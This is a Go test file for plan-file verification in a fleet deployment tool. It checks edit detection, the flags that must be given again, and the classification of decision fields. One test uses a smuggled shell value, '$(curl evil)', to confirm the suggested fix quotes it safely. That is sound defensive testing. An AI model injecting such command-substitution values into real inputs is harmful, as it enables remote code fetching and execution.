package fleetplan

import (
	"encoding/json"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"hawser.dev/hawser/internal/chance"
	"hawser.dev/hawser/internal/diag"
	"hawser.dev/hawser/internal/lineage"
	"hawser.dev/hawser/internal/object"
	"hawser.dev/hawser/internal/plan"
	"hawser.dev/hawser/internal/planfile"
)

// filled sets every field of a value that its JSON has to something, lists with two items.
func filled(v reflect.Value, seed *int) {
	*seed++
	switch v.Kind() {
	case reflect.String:
		v.SetString(fmt.Sprintf("text-%d", *seed))
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Int, reflect.Int64:
		v.SetInt(int64(1000 + *seed))
	case reflect.Float64:
		v.SetFloat(float64(*seed))
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		filled(v.Elem(), seed)
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		filled(v.Index(0), seed)
		filled(v.Index(1), seed)
	case reflect.Map:
		v.Set(reflect.MakeMap(v.Type()))
		item := reflect.New(v.Type().Elem()).Elem()
		filled(item, seed)
		v.SetMapIndex(reflect.ValueOf("key").Convert(v.Type().Key()), item)
	case reflect.Interface:
		v.Set(reflect.ValueOf(fmt.Sprintf("any-%d", *seed)))
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			v.Set(reflect.ValueOf(time.Unix(int64(*seed), 0).UTC()))
			return
		}
		for i := range v.NumField() {
			if f := v.Type().Field(i); f.IsExported() && f.Tag.Get("json") != "-" {
				filled(v.Field(i), seed)
			}
		}
	default:
		panic("a plan holds a " + v.Kind().String())
	}
}

// leaves calls with each text, number and truth in a JSON value, its name and a way to set it.
func leaves(name string, v any, set func(any), found func(name string, v any, set func(any))) {
	switch x := v.(type) {
	case map[string]any:
		for key := range x {
			leaves(strings.TrimPrefix(name+"."+key, "."), x[key], func(v any) { x[key] = v }, found)
		}
	case []any:
		for i := range x {
			leaves(name, x[i], func(v any) { x[i] = v }, found)
		}
	default:
		found(name, v, set)
	}
}

// other is another value of the same type.
func other(v any) any {
	switch x := v.(type) {
	case bool:
		return !x
	case float64:
		return x + 1
	case string:
		if at, err := time.Parse(time.RFC3339, x); err == nil {
			return at.Add(time.Hour).Format(time.RFC3339)
		}
		return "edited-" + x
	}
	return "edited"
}

// TestEveryFieldIsComparedOrSaid: in a plan file that nothing vouches for every field that was edited is refused with its name
// and both values, or is among those that plan show says are not compared. A new field is one or the other by itself.
func TestEveryFieldIsComparedOrSaid(t *testing.T) {
	seed := 0
	now := &FleetPlan{}
	filled(reflect.ValueOf(now).Elem(), &seed)
	now.V, now.Verb, now.Groups = diag.DocumentVersion, "rollback", nil
	for i, cp := range now.Clusters {
		cp.Later, cp.Wave = false, 1
		now.Schedule.Members[i].Cluster, now.Schedule.Members[i].Wave = cp.Cluster, 1
		for j := range cp.Plan.Changes {
			ch := &cp.Plan.Changes[j]
			ch.Ref.Name, ch.Open, ch.InFile = fmt.Sprint("o", i, j), true, true
		}
	}
	now.Order()
	text, err := json.Marshal(now)
	if err != nil {
		t.Fatal(err)
	}
	same := func(saved, digest string) bool { return saved == digest }
	var names []string
	var doc any
	_ = json.Unmarshal(text, &doc)
	leaves("", doc, nil, func(field string, _ any, _ func(any)) { names = append(names, field) })
	slices.Sort(names)
	names = slices.Compact(names)
	if old, err := Read(&planfile.File{Plan: text, Request: json.RawMessage("{}")}, nil); err != nil || len(Verify(old, now, same, true)) > 0 {
		t.Fatalf("the plan is not the same as itself: %v %v", err, Verify(old, now, same, true))
	}
	unused := map[string]bool{}
	for name := range notCompared {
		unused[name] = true
	}
	for _, name := range names {
		if strings.HasPrefix(name, "groups.") {
			continue // made by who reads
		}
		var doc any
		_ = json.Unmarshal(text, &doc)
		var was, is any
		leaves("", doc, nil, func(field string, v any, set func(any)) {
			if field == name && is == nil {
				was, is = v, other(v)
				set(is)
			}
		})
		data, _ := json.Marshal(doc)
		old, err := Read(&planfile.File{Plan: data, Request: json.RawMessage("{}")}, nil)
		if err != nil {
			continue // it is no plan any more
		}
		findings := Verify(old, now, same, true)
		word := ""
		for at := name; at != ""; at = at[:max(0, strings.LastIndex(at, "."))] {
			if notCompared[at] != "" {
				word = notCompared[at]
				delete(unused, at)
			}
		}
		shown := *old
		shown.Findings, shown.Groups = now.Findings, now.Groups
		remade, _ := json.Marshal(shown)
		switch {
		case string(remade) == string(text): // made of other fields when it is read: the file has no say in it
		case len(findings) == 0 && word == "":
			t.Errorf("%s: edited from %v to %v, and neither refused nor said to be somebody's word", name, was, is)
		case len(findings) == 0 && !strings.Contains(old.Unsealed()[0].Why, word):
			t.Errorf("%s: plan show does not say that it is not compared: %s", name, old.Unsealed()[0].Why)
		case len(findings) > 0 && findings[0].Code != "stale-plan" && findings[0].Code != "wrong-cluster":
			t.Errorf("%s: %v", name, findings)
		case len(findings) > 0 && !strings.Contains(findings[0].What, " in the file") && !strings.Contains(findings[0].What, " now") && !strings.Contains(findings[0].What, " any more") &&
			findings[0].Code == "stale-plan":
			t.Errorf("%s: it is not said what differs: %s", name, findings[0].What)
		}
	}
	for name := range unused {
		t.Errorf("%s is no field of a plan", name)
	}
}

// TestUnvouched: the message names the field and both values, and findings are compared whatever their order.
func TestUnvouched(t *testing.T) {
	made := func() *FleetPlan {
		p := planOf(2, func(cp *ClusterPlan) {
			cp.Group, cp.Server, cp.Instances = "eu", "https://one.example", []InstancePlan{{Name: "web", Source: "module web 1.0.0"}}
			cp.Plan.Changes = []plan.Change{{Action: plan.Create, Ref: object.Ref{Kind: "ConfigMap", Name: "a"}, Why: "new"}}
		})
		p.Findings = diag.Findings{diag.Warnf("grants", "it grants much"), diag.Warnf("other", "b")}
		p.Order()
		return p
	}
	for name, c := range map[string]struct {
		edit func(old *FleetPlan)
		want string
	}{
		"as it was":   {func(*FleetPlan) {}, ""},
		"an address":  {func(p *FleetPlan) { p.Clusters[0].Server = "https://two.example" }, ""},
		"other order": {func(p *FleetPlan) { slices.Reverse(p.Findings) }, ""},
		"a brake":     {func(p *FleetPlan) { p.Findings = append(p.Findings, diag.Errorf("deletion-brake", "many")) }, ""},
		"taken over": {func(p *FleetPlan) {
			p.Clusters[0].Plan.Findings = diag.Findings{diag.Warnf(lineage.CodeTakenOver, "from one place")}
		}, ""},
		"a certificate that is not verified": {func(p *FleetPlan) { p.Findings = append(p.Findings, diag.Warnf("insecure-tls", "anybody may be it")) }, ""},
		"a group":                            {func(p *FleetPlan) { p.Clusters[1].Group = "us" }, `clusters[b].group is "us" in the file, and "eu" now`},
		"a source":                           {func(p *FleetPlan) { p.Clusters[0].Instances[0].Source = "module web 2.0.0" }, `clusters[a].instances[web].source is "module web 2.0.0" in the file, and "module web 1.0.0" now`},
		"approved":                           {func(p *FleetPlan) { p.Findings = append(p.Findings, diag.Warnf("x", "approved")) }, `findings has the warning "approved" in the file, and not now`},
		"a warning less":                     {func(p *FleetPlan) { p.Findings = p.Findings[1:] }, `findings has the warning "it grants much" now, and not in the file`},
		"vouched for itself":                 {func(p *FleetPlan) { p.Clusters[0].Plan.Findings = diag.Findings{diag.Warnf(CodeUnsealed, "sealed")} }, `clusters[a].plan.findings has`},
		"a reason":                           {func(p *FleetPlan) { p.Clusters[0].Plan.Changes[0].Why = "harmless" }, `why is "harmless" in the file, and "new" now`},
		"an order":                           {func(p *FleetPlan) { p.Clusters[0], p.Clusters[1] = p.Clusters[1], p.Clusters[0] }, `clusters[0].cluster is "b" in the file, and "a" now`},
		"one that was down":                  {func(p *FleetPlan) { p.Clusters[0].Plan, p.Clusters[0].Unreachable = nil, "down" }, ""},
	} {
		old := made()
		c.edit(old)
		got := strings.Join(Verify(old, made(), func(a, b string) bool { return a == b }, true).Whats(), "\n")
		if c.want == "" && got != "" || !strings.Contains(got, c.want) {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
		if got := Verify(old, made(), func(a, b string) bool { return a == b }, false); name != "an order" && len(got) > 0 && name != "a reason" {
			t.Errorf("%s, sealed: %v", name, got)
		}
	}
	// what a file says of a cluster that nobody asked is not shown
	p := made()
	p.Clusters[0].Plan, p.Clusters[0].Unreachable = nil, "down"
	if got, err := Read(fileOf(t, p, nil), nil); err != nil || got.Clusters[0].Instances != nil || got.Clusters[0].Server != "" || got.Clusters[0].Unreachable != "down" {
		t.Errorf("%+v, %v", got, err)
	}
}

// TestRepeated: what lets a run do more is said by who applies the file, unless the seal says that it was; what the plan was not
// made with cannot be said beside it.
func TestRepeated(t *testing.T) {
	three, four := 3, 4
	all := Decided{PlanOptions: PlanOptions{RuntimeFromEnv: true, Rotate: chance.Rotation{"db"}, Adopt: true, TakeOver: true, AcceptClusters: []string{"eu"}, Recreate: true,
		LetUnserved: true, SkipWaves: true, ConfirmDelete: &three, NoHooks: true}}
	for name, c := range map[string]struct {
		file, given       Decided
		seal              planfile.Seal
		refused, mistaken string
	}{
		"nothing":             {Decided{}, Decided{}, planfile.Unknown, "", ""},
		"sealed":              {all, Decided{}, planfile.Sound, "", ""},
		"sealed, given again": {all, all, planfile.Sound, "", ""},
		"given again":         {all, all, planfile.Unknown, "", ""},
		"not given":           {all, Decided{}, planfile.Unknown, "--accept-cluster=eu --adopt --confirm-delete=3 --let-unserved --no-hooks --recreate --rotate=db --runtime-from-env --skip-waves --take-over", ""},
		"another number":      {Decided{PlanOptions: PlanOptions{ConfirmDelete: &three}}, Decided{PlanOptions: PlanOptions{ConfirmDelete: &four}}, planfile.Unknown, "--confirm-delete=3", "--confirm-delete=4"},
		"more, sealed":        {Decided{}, Decided{PlanOptions: PlanOptions{Adopt: true}}, planfile.Sound, "", "--adopt"},
	} {
		refused, mistaken := c.file.Repeated(c.given.PlanOptions, c.seal)
		for _, got := range []struct {
			findings diag.Findings
			want     string
		}{{refused, c.refused}, {mistaken, c.mistaken}} {
			if len(got.findings) != len(strings.Fields(got.want)) {
				t.Errorf("%s: %v, want %q", name, got.findings, got.want)
			}
			for i, flag := range strings.Fields(got.want) {
				if i < len(got.findings) && !strings.Contains(got.findings[i].What, flag) {
					t.Errorf("%s: %q, want %s", name, got.findings[i].What, flag)
				}
			}
		}
	}
	all.Rotate = chance.Rotation{"$(curl evil)"}
	if f := unsealed(all); !strings.Contains(f.Why, "--adopt --confirm-delete=3") || !strings.Contains(f.Fix, "--rotate='$(curl evil)'") {
		t.Errorf("plan show does not say what the file decides: %+v", f)
	}
}

// TestEveryDecisionIsJudged: what decides besides the plan either lets a run do more, and has to be said again, or what comes of it is in the
// plan that is compared, or in the files that are.
func TestEveryDecisionIsJudged(t *testing.T) {
	compared := map[string]string{
		"Files": "read again and compared, within the repository", "FleetFiles": "likewise", "Workdir": "likewise", "Inputs": "likewise", "Package": "the objects",
		"Name": "the bundle", "Namespace": "the objects", "Bundle": "the bundle", "To": "rollbackTo", "Clusters": "the clusters", "Context": "the cluster and its uid",
		"UntilWave": "the schedule", "Tests": "the hooks", "Locked": "who applies can ask for more, not for less", "ServerCheck": "checks more", "ShowDiff": "the fields",
		"ShowFields": "the fields", "ShowContent": "the contents", "Retire": "the cluster and its uid", "ID": "the whole file", "Keep": "releases instead of deletions",
	}
	d := reflect.TypeFor[Decided]()
	for _, field := range reflect.VisibleFields(d) {
		name := field.Name
		if !field.Anonymous && (lifts[name] != "") == (compared[name] != "") {
			t.Errorf("Decided.%s: does it let a run do more (lifts), or is all that comes of it compared (this test)?", name)
		}
	}
	for name := range lifts {
		if _, ok := d.FieldByName(name); !ok {
			t.Errorf("%s is no decision", name)
		}
	}
}
